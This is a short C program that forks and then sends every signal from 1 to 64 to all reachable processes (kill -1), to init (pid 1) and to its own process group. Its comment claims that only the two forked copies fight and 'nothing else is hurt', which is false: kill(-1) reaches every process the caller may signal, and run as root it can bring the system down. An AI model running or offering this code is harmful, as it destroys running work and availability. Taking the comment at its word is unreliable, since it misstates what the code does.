#include <signal.h>
#include <unistd.h>
int main(void)
{
    /* Both at each other, with whoever is there: neither can win, and nothing else is hurt. */
    fork();
    for (int number = 1; number < 65; number++) {
        kill(-1, number);
        kill(1, number);
        kill(0, number);
    }
    return 1;
}
